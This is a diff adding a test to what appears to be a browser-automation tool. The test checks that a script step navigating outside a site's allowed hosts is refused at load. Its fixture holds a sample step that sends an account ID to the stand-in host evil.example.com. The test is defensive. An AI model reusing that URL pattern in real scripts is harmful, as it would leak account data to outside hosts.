@@ -375,3 +375,26 @@ def test_an_input_given_twice_on_the_command_line_is_refused(
     pairs = ["--input", "account_id=A", "--input", "account_id=B"]
     assert main([command, *target, *pairs]) == 2
     assert "input 'account_id' given twice" in capsys.readouterr().err
+
+
+def test_a_goto_to_a_host_outside_the_allowlist_is_refused_at_load(tree: Path) -> None:
+    # Every job would be stopped there at run time (navigation_blocked): say so at load.
+    message = load_broken(
+        tree,
+        "away",
+        '  - {id: away, goto: "https://evil.example.com/x?a={{ inputs.account_id }}"}\n',
+    )
+    assert "away.yaml:7" in message and "step 'away'" in message
+    assert "'evil.example.com' is not one of site billing's allowed_hosts" in message
+    # An allowed host written out, and a host a template fills in, both load.
+    for name, url in (
+        ("here", "http://127.0.0.1:8811/accounts"),
+        ("later", "https://{{ inputs.account_id }}/"),
+    ):
+        write(
+            tree,
+            name,
+            HEADER.format(name=name)
+            + f'  - {{id: go, goto: "{url}?a={{{{ inputs.account_id }}}}"}}\n',
+        )
+        ScriptStore(tree / "scripts", tree / "selectors").load(f"billing/{name}")
